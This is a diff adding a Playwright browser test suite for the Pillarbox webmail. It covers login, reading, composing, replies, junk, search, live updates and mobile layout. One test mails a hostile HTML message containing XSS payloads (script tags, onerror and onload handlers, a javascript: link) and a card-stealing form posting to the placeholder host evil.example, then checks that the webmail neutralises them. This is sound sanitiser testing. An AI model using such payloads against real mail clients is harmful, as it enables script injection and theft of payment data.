@@ -1,0 +1,363 @@
+"""Webmail in a real browser: Playwright driving Debian's Chromium against a live Pillarbox.
+
+Chromium comes from the distribution (``apt-get install -y chromium``), never from
+``playwright install``; without ``/usr/bin/chromium`` these tests are skipped with the reason.
+A failing test leaves screenshots of its pages in ``test-artifacts/``. Mail arrives over SMTP
+(smtplib to the MX listener), as it would from the internet.
+"""
+
+from __future__ import annotations
+
+import re
+import smtplib
+from collections.abc import Callable, Iterator
+from pathlib import Path
+from typing import Any
+
+import pytest
+
+from pillarbox.store.types import INBOX
+from pillarbox.testing.live import TEST_PASSWORD, LiveServer, loopback_config
+
+CHROMIUM = Path("/usr/bin/chromium")
+CHROMIUM_ARGS = [
+    "--headless",
+    "--no-sandbox",
+    "--disable-gpu",
+    "--disable-background-networking",
+    "--disable-component-update",
+    "--disable-sync",
+    "--no-first-run",
+]
+ARTIFACTS = Path(__file__).resolve().parents[2] / "test-artifacts"
+
+if not CHROMIUM.exists():
+    pytest.skip(
+        "browser tests need Debian's Chromium at /usr/bin/chromium (apt-get install -y chromium)",
+        allow_module_level=True,
+    )
+sync_api = pytest.importorskip("playwright.sync_api", reason="playwright is not installed")
+Page = Any  # playwright's Page; kept loose so the module imports without playwright
+
+ALICE = "alice@example.org"
+BOB = "bob@example.org"
+PNG = bytes.fromhex(
+    "89504e470d0a1a0a0000000d4948445200000001000000010806000000"
+    "1f15c4890000000d49444154789c6360000002000154a24f5d0000000049454e44ae426082"
+)
+
+
+@pytest.fixture(scope="module")
+def browser() -> Iterator[Any]:
+    with sync_api.sync_playwright() as playwright:
+        browser = playwright.chromium.launch(executable_path=str(CHROMIUM), args=CHROMIUM_ARGS)
+        yield browser
+        browser.close()
+
+
+@pytest.fixture
+def server(tmp_path: Path) -> Iterator[LiveServer]:
+    """Web and MX listeners; alice and bob at example.org."""
+    with LiveServer(loopback_config(tmp_path / "data", only=["http", "smtp"])) as live:
+        live.add_domain("example.org")
+        live.add_account(ALICE, TEST_PASSWORD, display_name="Alice")
+        live.add_account(BOB, TEST_PASSWORD, display_name="Bob")
+        yield live
+
+
+@pytest.fixture
+def new_page(browser: Any, request: pytest.FixtureRequest) -> Iterator[Callable[..., Page]]:
+    """Pages in fresh browser contexts (separate cookie jars); screenshots if the test fails."""
+    failed_before = request.session.testsfailed
+    contexts: list[Any] = []
+    pages: list[Page] = []
+
+    def make(**options: Any) -> Page:
+        context = browser.new_context(**options)
+        context.set_default_timeout(10_000)
+        contexts.append(context)
+        page = context.new_page()
+        pages.append(page)
+        return page
+
+    yield make
+    if request.session.testsfailed > failed_before:
+        ARTIFACTS.mkdir(exist_ok=True)
+        name = re.sub(r"[^\w.-]+", "_", request.node.name)
+        for number, page in enumerate(pages):
+            try:
+                page.screenshot(path=str(ARTIFACTS / f"{name}-{number}.png"), full_page=True)
+            except Exception as exc:  # a crashed page must not hide the test's own failure
+                print(f"screenshot of page {number} failed: {exc}")
+    for context in contexts:
+        context.close()
+
+
+def base(server: LiveServer) -> str:
+    return f"http://127.0.0.1:{server.port('http')}"
+
+
+def smtp_deliver(server: LiveServer, raw: bytes, to: str = ALICE) -> None:
+    with smtplib.SMTP("127.0.0.1", server.port("smtp"), timeout=10) as smtp:
+        smtp.sendmail("carol@example.net", [to], raw)
+
+
+def message(subject: str, body: str = "Hello Alice.", *, extra: str = "") -> bytes:
+    body = body.replace("\n", "\r\n")
+    return (
+        f"From: Carol <carol@example.net>\r\nTo: Alice <alice@example.org>\r\n"
+        f"Subject: {subject}\r\nDate: Mon, 01 Jan 2024 10:00:00 +0000\r\n"
+        f"Message-ID: <{abs(hash(subject))}@example.net>\r\n{extra}\r\n{body}\r\n"
+    ).encode()
+
+
+def login(page: Page, server: LiveServer, user: str = ALICE) -> None:
+    page.goto(base(server) + "/login")
+    page.get_by_label("Email address", exact=True).fill(user)
+    page.get_by_label("Password", exact=True).fill(TEST_PASSWORD)
+    page.get_by_role("button", name="Log in").click()
+    page.wait_for_url(re.compile(r"/mail/\d+$"))
+
+
+def inbox_count(server: LiveServer, address: str, name: str = INBOX) -> int:
+    async def go() -> int:
+        account = await server.store.get_account(address)
+        assert account is not None
+        box = await server.store.get_mailbox(account.id, name)
+        return len(await server.store.list_messages(box.id))
+
+    return server.call(go())
+
+
+# -- the journeys --------------------------------------------------------------------------------
+
+
+def test_login_and_read_a_message_sent_by_smtp(server: LiveServer, new_page: Any) -> None:
+    smtp_deliver(server, message("Quarterly numbers", "Revenue is up.\nCosts are down."))
+    page = new_page()
+    page.goto(base(server) + "/mail")
+    assert "/login" in page.url  # not logged in yet
+    login(page, server)
+    row = page.locator("table.messages tbody tr.unread")
+    assert row.count() == 1
+    assert "Quarterly numbers" in row.inner_text()
+    page.get_by_role("link", name="Quarterly numbers").click()
+    page.wait_for_url(re.compile(r"/mail/\d+/\d+$"))
+    assert page.locator("h1#subject").inner_text() == "Quarterly numbers"
+    assert "Revenue is up." in page.locator("pre.body-text").inner_text()
+    assert "Carol <carol@example.net>" in page.locator("dl.headers").inner_text()
+    page.get_by_role("link", name="← INBOX").click()
+    assert page.locator("table.messages tbody tr.unread").count() == 0  # read now
+
+
+HOSTILE_HTML = (
+    "<html><head><script>alert('head')</script></head>"
+    "<body onload=\"alert('onload')\"><h2>You won</h2>"
+    '<img src="http://evil.example/track.png" alt="tracker">'
+    "<img src=x onerror=\"alert('onerror')\">"
+    "<a href=\"javascript:alert('link')\">claim</a>"
+    '<svg><script>alert("svg")</script></svg>'
+    '<form action="http://evil.example/steal"><input name="card"><button>Pay</button></form>'
+    "<p>end of message</p></body></html>"
+)
+
+
+def test_hostile_html_runs_no_script_and_loads_nothing_remote(
+    server: LiveServer, new_page: Any
+) -> None:
+    smtp_deliver(
+        server,
+        message(
+            "Hostile",
+            HOSTILE_HTML,
+            extra="MIME-Version: 1.0\r\nContent-Type: text/html; charset=utf-8\r\n",
+        ),
+    )
+    page = new_page()
+    dialogs: list[str] = []
+    remote: list[str] = []
+    page.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
+    page.context.route(
+        re.compile(r"^https?://evil\.example/.*"),
+        lambda route: (
+            remote.append(route.request.url),
+            route.fulfill(body=PNG, content_type="image/png"),
+        ),
+    )
+    login(page, server)
+    page.get_by_role("link", name="Hostile").click()
+    frame = page.frame_locator("iframe.body-frame")
+    frame.get_by_text("end of message").wait_for()
+    assert "You won" in frame.locator("body").inner_text()
+    assert frame.locator("script, form, iframe, [onload], [onerror]").count() == 0
+    assert frame.locator("a", has_text="claim").get_attribute("href") is None
+    frame.locator("a", has_text="claim").click()
+    page.wait_for_timeout(300)
+    assert dialogs == []
+    assert remote == []
+    notice = page.locator("#blocked-images")
+    assert "1 remote image blocked" in notice.inner_text()
+    notice.get_by_role("link", name="Load images").click()
+    page.frame_locator("iframe.body-frame").get_by_text("end of message").wait_for()
+    page.wait_for_timeout(300)
+    assert remote == ["http://evil.example/track.png"]  # only after the reader asked
+    assert dialogs == []
+
+
+def test_compose_with_attachment_to_a_local_user(
+    server: LiveServer, new_page: Any, tmp_path: Path
+) -> None:
+    attachment = tmp_path / "minutes.txt"
+    attachment.write_text("1. Budget approved.\n")
+    page = new_page()
+    login(page, server)
+    page.keyboard.press("c")  # keyboard shortcut: compose
+    page.wait_for_url(re.compile(r"/compose$"))
+    page.get_by_label("To", exact=True).fill("Bob <bob@example.org>")
+    page.get_by_label("Subject", exact=True).fill("Minutes")
+    page.get_by_label("Message", exact=True).fill("Attached are the minutes.")
+    page.get_by_label(re.compile("^Attachments")).set_input_files(str(attachment))
+    page.get_by_role("button", name="Send").click()
+    page.wait_for_url(re.compile(r"sent=1"))
+    assert "Message sent." in page.locator("p.notice").inner_text()
+    assert "Minutes" in page.locator("table.messages").inner_text()  # the copy in Sent
+
+    bob = new_page()
+    login(bob, server, BOB)
+    bob.get_by_role("link", name="Minutes").click()
+    assert "Attached are the minutes." in bob.locator("pre.body-text").inner_text()
+    with bob.expect_download() as download_info:
+        bob.get_by_role("link", name="minutes.txt").click()
+    download = download_info.value
+    assert Path(download.path()).read_text() == "1. Budget approved.\n"
+
+
+def test_invalid_address_is_shown_inline_and_text_is_kept(
+    server: LiveServer, new_page: Any
+) -> None:
+    page = new_page()
+    login(page, server)
+    page.goto(base(server) + "/compose")
+    page.get_by_label("To", exact=True).fill("bob@example.org, not-an-address")
+    page.get_by_label("Message", exact=True).fill("Precious words.")
+    page.get_by_role("button", name="Send").click()
+    error = page.locator("#e-to")
+    assert "not a valid address: not-an-address" in error.inner_text()
+    assert page.get_by_label("To", exact=True).get_attribute("aria-invalid") == "true"
+    assert page.get_by_label("Message", exact=True).input_value() == "Precious words."
+
+
+def test_reply_from_the_keyboard(server: LiveServer, new_page: Any) -> None:
+    smtp_deliver(
+        server,
+        b"From: Bob <bob@example.org>\r\nTo: alice@example.org\r\nSubject: Dinner\r\n"
+        b"Message-ID: <dinner@example.org>\r\n\r\nAre you free tonight?\r\n",
+    )
+    page = new_page()
+    login(page, server)
+    page.keyboard.press("j")
+    page.keyboard.press("Enter")
+    page.wait_for_url(re.compile(r"/mail/\d+/\d+$"))
+    page.keyboard.press("r")
+    page.wait_for_url(re.compile(r"/compose\?reply="))
+    assert page.get_by_label("Subject", exact=True).input_value() == "Re: Dinner"
+    body = page.get_by_label("Message", exact=True)
+    assert "> Are you free tonight?" in body.input_value()
+    body.press("Control+Home")
+    body.type("Yes!")
+    page.get_by_role("button", name="Send").click()
+    page.wait_for_url(re.compile(r"sent=1"))
+
+    bob = new_page()
+    login(bob, server, BOB)
+    bob.get_by_role("link", name="Re: Dinner").click()
+    assert bob.locator("pre.body-text").inner_text().startswith("Yes!")
+    bob.get_by_role("link", name="View source").wait_for()
+    raw = bob.request.get(bob.url + "/source").text()
+    assert "In-Reply-To: <dinner@example.org>" in raw
+
+
+def test_move_to_junk_and_back(server: LiveServer, new_page: Any) -> None:
+    smtp_deliver(server, message("Cheap pills"))
+    smtp_deliver(server, message("Team lunch"))
+    page = new_page()
+    login(page, server)
+    row = page.locator("tr", has_text="Cheap pills")
+    row.get_by_role("checkbox").check()
+    page.locator("#list-form").get_by_role("button", name="Spam").click()
+    page.wait_for_load_state()
+    assert page.locator("table.messages").get_by_text("Cheap pills").count() == 0
+    assert page.locator("table.messages").get_by_text("Team lunch").count() == 1
+    page.locator("#folders").get_by_role("link", name=re.compile("^Junk")).click()
+    assert "Cheap pills" in page.locator("table.messages").inner_text()
+    assert inbox_count(server, ALICE, "Junk") == 1
+    page.locator("tr", has_text="Cheap pills").get_by_role("checkbox").check()
+    page.locator("#list-form").get_by_role("button", name="Not spam").click()
+    page.wait_for_load_state()
+    assert inbox_count(server, ALICE, "Junk") == 0 and inbox_count(server, ALICE) == 2
+
+
+def test_search(server: LiveServer, new_page: Any) -> None:
+    smtp_deliver(server, message("Holiday plans", "We could go to Lisbon in May."))
+    smtp_deliver(server, message("Invoice 42", "Please pay by Friday."))
+    page = new_page()
+    login(page, server)
+    page.keyboard.press("/")
+    page.keyboard.type("Lisbon")
+    page.keyboard.press("Enter")
+    page.wait_for_url(re.compile(r"q=Lisbon"))
+    table = page.locator("table.messages").inner_text()
+    assert "Holiday plans" in table and "Invoice 42" not in table
+    assert page.locator("h1#list-title").inner_text().endswith("search")
+
+
+def test_new_mail_appears_without_reload(server: LiveServer, new_page: Any) -> None:
+    page = new_page()
+    login(page, server)
+    page.evaluate("window.__sameDocument = true")
+    assert page.locator("table.messages tbody tr[data-href]").count() == 0
+    page.wait_for_timeout(300)  # let the EventSource connect
+    smtp_deliver(server, message("Breaking news"))
+    page.locator("table.messages").get_by_text("Breaking news").wait_for(timeout=10_000)
+    assert page.evaluate("window.__sameDocument") is True  # no navigation happened
+    assert page.locator("#folders .count").first.inner_text() == "1"
+    assert page.title().startswith("(1)")
+
+
+def test_expired_session_keeps_the_draft(server: LiveServer, new_page: Any) -> None:
+    page = new_page()
+    login(page, server)
+    page.goto(base(server) + "/compose")
+    page.get_by_label("To", exact=True).fill("bob@example.org")
+    page.get_by_label("Subject", exact=True).fill("Long letter")
+    page.get_by_label("Message", exact=True).fill("Three paragraphs of careful prose.")
+    page.context.clear_cookies()  # the session expires while the person writes
+    page.get_by_role("button", name="Send").click()
+    page.wait_for_url(re.compile(r"/login\?"))
+    assert "Log in again" in page.locator("p.notice").inner_text()
+    page.get_by_label("Email address", exact=True).fill(ALICE)
+    page.get_by_label("Password", exact=True).fill(TEST_PASSWORD)
+    page.get_by_role("button", name="Log in").click()
+    page.wait_for_url(re.compile(r"/compose"))
+    page.get_by_role("button", name="Restore it").click()
+    assert (
+        page.get_by_label("Message", exact=True).input_value()
+        == "Three paragraphs of careful prose."
+    )
+    assert page.get_by_label("Subject", exact=True).input_value() == "Long letter"
+    page.get_by_role("button", name="Send").click()
+    page.wait_for_url(re.compile(r"sent=1"))
+    assert inbox_count(server, BOB) == 1
+
+
+def test_usable_at_phone_width(server: LiveServer, new_page: Any) -> None:
+    for n in range(3):
+        smtp_deliver(server, message(f"A rather long subject line number {n} for a small screen"))
+    page = new_page(viewport={"width": 375, "height": 740})
+    login(page, server)
+    overflow = page.evaluate("document.documentElement.scrollWidth - window.innerWidth")
+    assert overflow <= 1
+    page.locator("table.messages tbody tr td.subject a").first.click()
+    overflow = page.evaluate("document.documentElement.scrollWidth - window.innerWidth")
+    assert overflow <= 1
+    assert page.get_by_role("link", name="Reply", exact=True).is_visible()
